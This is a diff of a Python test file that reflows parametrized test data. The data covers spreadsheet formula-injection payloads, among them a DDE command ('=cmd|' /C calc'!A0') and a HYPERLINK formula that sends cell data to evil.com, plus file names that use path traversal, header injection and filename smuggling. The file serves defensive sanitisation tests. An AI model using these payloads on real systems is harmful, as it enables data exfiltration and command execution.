@@ -37,8 +37,9 @@ WORST = "B-3"
 PAYLOADS = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
     "  =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x00=1", " \t\r\n @x", "\tabc", "\rabc",
-    "＝1+1", "＋1", "－1", "＠x", "-5", "=", "-", '="a","b"', "=HYPERLINK(\"http://evil.com?x=\"&A1)", "a;=1+1", "a\n=1+1",
-    "a\r\n=1+1", "a\t@x", 'a";=1+1;"', "a; \n-x", "a\n\n=1", ";;=1",
+    "＝1+1", "＋1", "－1", "＠x", "-5", "=", "-", '="a","b"',
+    "=HYPERLINK(\"http://evil.com?x=\"&A1)", "a;=1+1", "a\n=1+1", "a\r\n=1+1", "a\t@x",
+    'a";=1+1;"', "a; \n-x", "a\n\n=1", ";;=1",
 ]  # fmt: skip
 PLAIN = [
     "",
@@ -159,8 +160,8 @@ def test_a_foreign_detector_has_scores_alone(workspace: Workspace, views: Views)
     ("labels", "kind"),
     [
         ([1, 2], "Int64"), ([1, None], "Int64"), ([-1.5, 2.0], "Float64"),
-        ([True, None], "boolean"), (["a", None], "string"), ([1, "a"], "string"), ([10**30, 1], "string"),
-        ([None, None], "string"),
+        ([True, None], "boolean"), (["a", None], "string"), ([1, "a"], "string"),
+        ([10**30, 1], "string"), ([None, None], "string"),
     ],
 )  # fmt: skip
 def test_labels_of_any_kind_have_one_type(views: Views, labels: list[Any], kind: str) -> None:
@@ -243,8 +244,8 @@ def test_a_negative_number_is_no_text() -> None:
     [
         ("new.csv", "new"), ("batches 2026.parquet", "batches-2026"), ("a.csv.gz", "a"),
         ("../../etc/passwd", "etc-passwd"), ('a"; filename="evil.exe', "a-filename-evil-exe"),
-        ("a\r\nSet-Cookie: x=1", "a-Set-Cookie-x-1"), ("Öl & Gas", "l-Gas"), ("日本", ""), ("..", ""),
-        ("x" * 500, "x" * 60), ("C:\\a\\b.csv", "C-a-b"), ("-.-", ""),
+        ("a\r\nSet-Cookie: x=1", "a-Set-Cookie-x-1"), ("Öl & Gas", "l-Gas"), ("日本", ""),
+        ("..", ""), ("x" * 500, "x" * 60), ("C:\\a\\b.csv", "C-a-b"), ("-.-", ""),
     ],
 )  # fmt: skip
 def test_files_have_names_of_our_own(name: str, expected: str) -> None:
